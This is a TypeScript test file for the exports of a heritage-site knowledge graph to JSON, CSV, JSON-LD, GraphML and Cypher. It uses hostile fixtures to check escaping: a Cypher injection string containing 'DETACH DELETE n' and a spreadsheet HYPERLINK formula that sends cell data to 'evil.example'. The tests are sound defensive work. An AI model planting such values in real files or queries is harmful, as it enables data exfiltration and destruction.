import { createHash } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import lbug from '@ladybugdb/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEmbeddedGraphStore } from '../../adapters/embedded/create-embedded-graph-store.ts';
import { cypherString } from '../../cypher/cypher-literals.ts';
import type { GraphStore } from '../../graph-store.ts';
import type { GraphNode, GraphRelationship } from '../../model/graph-records.ts';
import { readGraphSnapshot, snapshotOf, type GraphSnapshot } from '../graph-snapshot.ts';
import { importGraphFilesFromDisk } from '../import/import-graph-files.ts';
import { EXAMPLE_NODES, EXAMPLE_RELATIONSHIPS } from '../templates.ts';
import { exportGraph, formatExport } from './export-graph.ts';
import { csvExportFiles, type CsvManifest } from './export-csv.ts';

const BUFFER_POOL_BYTES = 64 * 1024 * 1024;
const HOSTILE = `x'}) DETACH DELETE n // <b>&amp;</b> "q" \\ end\\`;
const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"大生旧址")';

const node = (id: string, extra: Partial<GraphNode>): GraphNode => ({
  id,
  kind: 'Museum',
  name: id,
  aliases: [],
  province: '江苏',
  city: '南京市',
  description: null,
  properties: {},
  sources: [{ document: '调查表', takenAt: '2026-11-20' }],
  ...extra,
});

/** The example survey plus records chosen to stress every format's escaping. */
const NODES: GraphNode[] = [
  ...EXAMPLE_NODES,
  node('hostile-museum', {
    name: HOSTILE,
    aliases: ['a|b', HOSTILE],
    description: '第一行\n第二行\t制表 𠀀 \u2028 尾',
    properties: {
      opened_year: 1990,
      lat: 32.05,
      lng: 118.78,
      floor_area_m2: '约 5000',
      designations: [{ list: '国家一级博物馆', level: 'national', year: 2020 }],
      verification: {
        status: 'disputed',
        by: '王策展',
        at: '2026-11-23T08:00:00.000Z',
        note: '开馆年份另有 1991 一说',
      },
    },
    sources: [
      {
        url: 'https://baike.baidu.com/item/%E5%8D%97%E4%BA%AC%E5%8D%9A%E7%89%A9%E9%99%A2',
        document: '南京博物院_百度百科',
        takenAt: '2026-11-20',
      },
      { document: 'A|B ;; C', locator: '第 3 页', author: '某某' } as GraphNode['sources'][number],
    ],
  }),
  // Text a spreadsheet would run as a formula, in every kind of cell the CSV export writes.
  node('formula-site', {
    kind: 'HeritageSite',
    name: FORMULA,
    aliases: ['+1+1', "'=already quoted", '-'],
    description: '-1+1 @SUM(1+1)',
    properties: { industry: '@SUM(1+1)', current_use: "'-5", founded_year: 1895 },
    sources: [{ document: '=调查表', takenAt: '2026-11-20' }],
  }),
  node('policy-doc', {
    kind: 'PolicyDocument',
    name: '关于推进工业文化发展的指导意见',
    properties: { documentNumber: '工信部联产业〔2016〕446号', startYear: 2016 },
    sources: [{ document: '关于推进工业文化发展的指导意见', locator: '第三条' }],
  }),
];

const RELATIONSHIPS: GraphRelationship[] = [
  ...EXAMPLE_RELATIONSHIPS,
  {
    id: `hostile-museum|EXHIBITS|${HOSTILE}`,
    type: 'EXHIBITS',
    from: 'hostile-museum',
    to: 'example-enterprise-dasheng',
    properties: { note: HOSTILE },
    sources: [{ url: 'https://zh.wikipedia.org/wiki/%E5%A4%A7%E7%94%9F', document: HOSTILE }],
  },
];

async function openStore(dataDir: string): Promise<GraphStore> {
  const store = await createEmbeddedGraphStore({ dataDir, bufferPoolBytes: BUFFER_POOL_BYTES });
  await store.ensureSchema();
  return store;
}

describe('exports', () => {
  let workDir: string;
  let store: GraphStore;
  let snapshot: GraphSnapshot;
  const metadata = () => ({ datasetVersion: snapshot.datasetVersion, exportedAt: '2026-11-20T08:00:00.000Z' });

  beforeAll(async () => {
    workDir = await mkdtemp(path.join(tmpdir(), 'icg-export-'));
    store = await openStore(path.join(workDir, 'source'));
    await store.upsertGraph({ nodes: NODES, relationships: RELATIONSHIPS });
    snapshot = await readGraphSnapshot(store, { pageSize: 2 });
  });

  afterAll(async () => {
    await store.close();
    await rm(workDir, { recursive: true, force: true });
  });

  it('a snapshot reads every record, page by page, with the version of exactly those records', () => {
    expect(snapshot.nodes).toHaveLength(NODES.length);
    expect(snapshot.relationships).toHaveLength(RELATIONSHIPS.length);
    expect(snapshot.nodes.map((n) => n.id)).toEqual(NODES.map((n) => n.id).sort());
  });

  describe.each(['json', 'csv'] as const)('%s export, imported into an empty store', (format) => {
    it('gives the same counts, the same records and sources, and the same dataset version', async () => {
      const out = path.join(workDir, `export-${format}${format === 'json' ? '.json' : ''}`);
      const result = await exportGraph(store, { format, out });
      expect(result.datasetVersion).toBe(snapshot.datasetVersion);

      const target = await openStore(path.join(workDir, `target-${format}`));
      try {
        const files = format === 'json' ? [out] : (await readdir(out)).map((name) => path.join(out, name));
        const report = await importGraphFilesFromDisk(target, files);
        expect(report.issues).toEqual([]);
        expect(await target.counts()).toEqual(await store.counts());
        const imported = await readGraphSnapshot(target);
        expect(imported.nodes.map((n) => [n.id, n.sources])).toEqual(snapshot.nodes.map((n) => [n.id, n.sources]));
        expect(imported.relationships.map((r) => [r.id, r.sources])).toEqual(
          snapshot.relationships.map((r) => [r.id, r.sources]),
        );
        expect(imported.datasetVersion).toBe(snapshot.datasetVersion);
      } finally {
        await target.close();
      }
    });
  });

  it('JSON carries the dataset version and the records in the import shape', () => {
    const document = JSON.parse(formatExport('json', snapshot, metadata())) as Record<string, unknown>;
    expect(document).toMatchObject({
      format: 'icg-graph',
      formatVersion: 1,
      datasetVersion: snapshot.datasetVersion,
      exportedAt: '2026-11-20T08:00:00.000Z',
    });
    expect(document.nodes).toEqual(snapshot.nodes);
    expect(document.relationships).toEqual(snapshot.relationships);
  });

  it('CSV writes one file per kind, relationships.csv, and a manifest with the version and each file’s hash', async () => {
    const out = path.join(workDir, 'csv-manifest');
    await exportGraph(store, { format: 'csv', out });
    expect((await readdir(out)).sort()).toEqual(
      [
        'Enterprise.csv',
        'Entrepreneur.csv',
        'HeritageSite.csv',
        'Museum.csv',
        'PolicyDocument.csv',
        'manifest.json',
        'relationships.csv',
      ].sort(),
    );
    const manifest = JSON.parse(await readFile(path.join(out, 'manifest.json'), 'utf8')) as CsvManifest;
    expect(manifest.datasetVersion).toBe(snapshot.datasetVersion);
    expect(manifest.inexact).toEqual([]);
    for (const file of manifest.files) {
      const text = await readFile(path.join(out, file.name), 'utf8');
      expect(createHash('sha256').update(text, 'utf8').digest('hex')).toBe(file.sha256);
    }
    expect(manifest.files.find((f) => f.name === 'Museum.csv')).toMatchObject({ kind: 'Museum', rows: 1 });
    // No cell a spreadsheet would run: the name, aliases, description and a text column that start with = + - @
    // have a quote in front (the round trip above reads them back without it); a plain number stays a number.
    const site = await readFile(path.join(out, 'HeritageSite.csv'), 'utf8');
    const formulaRow = site.split('\r\n').find((line) => line.startsWith('formula-site,'));
    expect(formulaRow).toContain(`,"'${FORMULA.replaceAll('"', '""')}",'+1+1|'=already quoted|-,`);
    expect(formulaRow).toContain(",'-1+1 @SUM(1+1),");
    expect(formulaRow).toContain(",'@SUM(1+1),");
    expect(formulaRow).toContain(",'-5,");
    expect(formulaRow).toContain(',1895,');
    // A value that does not fit its column travels in the JSON column; one that fits has its own.
    const museum = await readFile(path.join(out, 'Museum.csv'), 'utf8');
    expect(museum).toContain(',1990,');
    expect(museum).toContain('""floor_area_m2"":""约 5000""');
    expect(museum).toContain(',国家一级博物馆|national||2020,');
    // The derived columns at the end of each row: the status, and the class of the best source (Baidu Baike).
    expect(museum.trimEnd().split('\n').at(-1)).toMatch(/,disputed,reference$/);
  });

  it('CSV names in the manifest the records whose rows would not read back exactly', () => {
    const awkward = snapshotOf([node('padded', { name: ' 前后有空格 ' }), node('empty', { description: '' })], []);
    const manifest = JSON.parse(csvExportFiles(awkward, metadata()).get('manifest.json')!) as CsvManifest;
    expect(manifest.inexact).toEqual([
      { id: 'empty', reason: 'description is empty text, which reads back as no value' },
      { id: 'padded', reason: 'name starts or ends with white space, which is trimmed' },
    ]);
  });

  describe('JSON-LD', () => {
    const document = () =>
      JSON.parse(formatExport('jsonld', snapshot, metadata())) as Record<string, unknown> & {
        '@graph': Record<string, unknown>[];
      };
    const entity = (id: string) => document()['@graph'].find((item) => item.identifier === id)!;

    it('is a schema.org Dataset whose version is the dataset version', () => {
      expect(document()).toMatchObject({ '@type': 'Dataset', version: snapshot.datasetVersion });
      expect(document()['@context']).toMatchObject({ '@vocab': 'https://schema.org/' });
    });

    it('types each kind with schema.org, keeping the exact kind', () => {
      expect(entity('example-enterprise-dasheng')).toMatchObject({
        '@type': 'Corporation',
        'icg:kind': 'Enterprise',
        foundingDate: '1895',
      });
      expect(entity('example-entrepreneur-zhang-jian')).toMatchObject({
        '@type': 'Person',
        birthDate: '1853',
        deathDate: '1926',
      });
      expect(entity('example-heritage-dasheng-mill')['@type']).toBe('LandmarksOrHistoricalBuildings');
      expect(entity('policy-doc')).toMatchObject({
        '@type': 'Legislation',
        legislationIdentifier: '工信部联产业〔2016〕446号',
      });
      expect(entity('hostile-museum')).toMatchObject({
        '@type': 'Museum',
        geo: { '@type': 'GeoCoordinates', latitude: 32.05, longitude: 118.78 },
        address: { '@type': 'PostalAddress', addressRegion: '江苏', addressLocality: '南京市' },
      });
    });

    it('turns encyclopedia source URLs into sameAs and every source into a citation with its quality class', () => {
      const museum = entity('hostile-museum');
      expect(museum.sameAs).toEqual(['https://baike.baidu.com/item/%E5%8D%97%E4%BA%AC%E5%8D%9A%E7%89%A9%E9%99%A2']);
      expect(museum.citation).toEqual([
        {
          '@type': 'WebPage',
          name: '南京博物院_百度百科',
          url: museum.sameAs && (museum.sameAs as string[])[0],
          'icg:takenAt': '2026-11-20',
          'icg:sourceQuality': 'reference',
        },
        {
          '@type': 'CreativeWork',
          name: 'A|B ;; C',
          author: '某某',
          'icg:locator': '第 3 页',
          'icg:sourceQuality': 'unknown',
        },
      ]);
      expect(museum['icg:verificationStatus']).toBe('disputed');
      expect(entity('example-enterprise-dasheng').sameAs).toEqual(['https://zh.wikipedia.org/wiki/%E5%BC%A0%E8%AC%87']);
    });

    it('writes relationships as icg:Relationship objects, and FOUNDED also as schema.org founder', () => {
      const founded = document()['@graph'].find((item) => item['icg:type'] === 'FOUNDED');
      expect(founded).toMatchObject({
        '@type': 'icg:Relationship',
        'icg:from': 'urn:icg:entity:example-entrepreneur-zhang-jian',
        'icg:to': 'urn:icg:entity:example-enterprise-dasheng',
      });
      expect(entity('example-enterprise-dasheng').founder).toEqual([
        { '@id': 'urn:icg:entity:example-entrepreneur-zhang-jian' },
      ]);
    });
  });

  describe('GraphML', () => {
    const text = () => formatExport('graphml', snapshot, metadata());
    const unescape = (value: string) =>
      value
        .replace(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)))
        .replaceAll('&lt;', '<')
        .replaceAll('&gt;', '>')
        .replaceAll('&quot;', '"')
        .replaceAll('&apos;', "'")
        .replaceAll('&amp;', '&');

    it('declares every attribute with <key> and puts the dataset version on the graph', () => {
      const graphml = text();
      expect(graphml).toContain('<key id="label" for="node" attr.name="label" attr.type="string"/>');
      expect(graphml).toContain('<key id="lat" for="node" attr.name="lat" attr.type="double"/>');
      expect(graphml).toContain('<key id="type" for="edge" attr.name="type" attr.type="string"/>');
      expect(graphml).toContain(`<data key="datasetVersion">${snapshot.datasetVersion}</data>`);
      const used = new Set([...graphml.matchAll(/<data key="([^"]+)"/g)].map((m) => m[1]));
      const declared = new Set([...graphml.matchAll(/<key id="([^"]+)"/g)].map((m) => m[1]));
      expect([...used].filter((key) => !declared.has(key))).toEqual([]);
      expect(graphml.match(/<node /g)).toHaveLength(NODES.length);
      expect(graphml.match(/<edge /g)).toHaveLength(RELATIONSHIPS.length);
    });

    it('gives every node and edge its verification status and the class of its best source', () => {
      const graphml = text();
      expect(graphml).toContain('<key id="verification" for="node" attr.name="verification" attr.type="string"/>');
      expect(graphml).toContain('<key id="e_sourceQuality" for="edge" attr.name="sourceQuality" attr.type="string"/>');
      expect(graphml.match(/<data key="verification">unverified<\/data>/g)).toHaveLength(NODES.length - 1);
      expect(graphml.match(/<data key="verification">disputed<\/data>/g)).toHaveLength(1);
      expect(graphml.match(/<data key="e_verification">unverified<\/data>/g)).toHaveLength(RELATIONSHIPS.length);
      expect(graphml).toMatch(/<data key="sourceQuality">reference<\/data>/);
    });

    it('escapes markup so hostile text comes back exactly, and leaves no raw < or & in text', () => {
      const graphml = text();
      const names = [...graphml.matchAll(/<data key="name">([^<]*)<\/data>/g)].map((m) => unescape(m[1]!));
      expect(names).toContain(HOSTILE);
      const description = [...graphml.matchAll(/<data key="description">([^<]*)<\/data>/g)].map((m) => unescape(m[1]!));
      expect(description).toContain('第一行\n第二行\t制表 𠀀 \u2028 尾');
      const edgeIds = [...graphml.matchAll(/<edge id="([^"]*)"/g)].map((m) => unescape(m[1]!));
      expect(edgeIds).toContain(`hostile-museum|EXHIBITS|${HOSTILE}`);
      for (const match of graphml.matchAll(/>([^<]*)</g))
        expect(match[1]).not.toMatch(/&(?!(amp|lt|gt|quot|apos|#\d+);)/);
    });
  });

  describe('Cypher script', () => {
    /** Splits the script into string literals and the text around them, as a Cypher lexer does. */
    function lex(script: string): { skeleton: string; literals: string[] } {
      let skeleton = '';
      const literals: string[] = [];
      for (let i = 0; i < script.length;) {
        if (script.startsWith('//', i)) {
          i = script.indexOf('\n', i);
          if (i === -1) break;
          continue;
        }
        if (script[i] !== "'") {
          skeleton += script[i];
          i += 1;
          continue;
        }
        let literal = '';
        for (i += 1; script[i] !== "'"; i += 1) {
          if (i >= script.length) throw new Error('unterminated string literal');
          if (script[i] === '\\') {
            const next = script[i + 1]!;
            const simple: Record<string, string> = {
              n: '\n',
              r: '\r',
              t: '\t',
              "'": "'",
              '"': '"',
              '\\': '\\',
              b: '\b',
              f: '\f',
            };
            if (next === 'u') {
              literal += String.fromCharCode(parseInt(script.slice(i + 2, i + 6), 16));
              i += 5;
            } else {
              literal += simple[next];
              i += 1;
            }
          } else literal += script[i];
        }
        i += 1;
        literals.push(literal);
        skeleton += "''";
      }
      return { skeleton, literals };
    }

    it('names the dataset version in a comment and creates the constraint and indexes first', () => {
      const script = formatExport('cypher', snapshot, metadata());
      expect(script).toContain(`// datasetVersion: ${snapshot.datasetVersion}\n`);
      expect(script).toContain(
        'CREATE CONSTRAINT entity_id_unique IF NOT EXISTS FOR (n:Entity) REQUIRE n.id IS UNIQUE;',
      );
      expect(script.indexOf('CREATE CONSTRAINT')).toBeLessThan(script.indexOf('UNWIND'));
    });

    it('keeps hostile text inside string literals: outside them only the fixed statements remain', () => {
      const script = formatExport('cypher', snapshot, metadata());
      const { skeleton, literals } = lex(script);
      expect(skeleton).not.toContain('DETACH');
      expect(skeleton).not.toContain('<b>');
      expect(skeleton.match(/;\n/g)).toHaveLength(4 + 2);
      expect(literals).toContain(HOSTILE);
      expect(literals).toContain('第一行\n第二行\t制表 𠀀 \u2028 尾');
      expect(literals).toContain(JSON.stringify(NODES.find((n) => n.id === 'hostile-museum')!.sources));
      expect(script.split('\n').every((line) => !line.includes('\u2028'))).toBe(true);
    });

    it('writes string literals a real Cypher parser reads back exactly (checked with LadybugDB)', async () => {
      const database = new lbug.Database(':memory:', BUFFER_POOL_BYTES);
      const connection = new lbug.Connection(database);
      try {
        for (const text of [
          HOSTILE,
          "'",
          '\\',
          "\\'",
          '\n\r\t',
          '\u0000\u0001\u007f\u0085',
          '\u2028\u2029',
          '𠀀🙂',
          '中文',
        ]) {
          // The literal in the text is what is under test here: the export script's escaping, read by a real parser.
          // eslint-disable-next-line no-restricted-syntax
          const result = await connection.query(`RETURN ${cypherString(text)} AS value`);
          const [row] = (Array.isArray(result) ? result[0]! : result).getAllSync();
          expect(row?.value).toBe(text);
        }
      } finally {
        await connection.close();
        await database.close();
      }
    });
  });
});
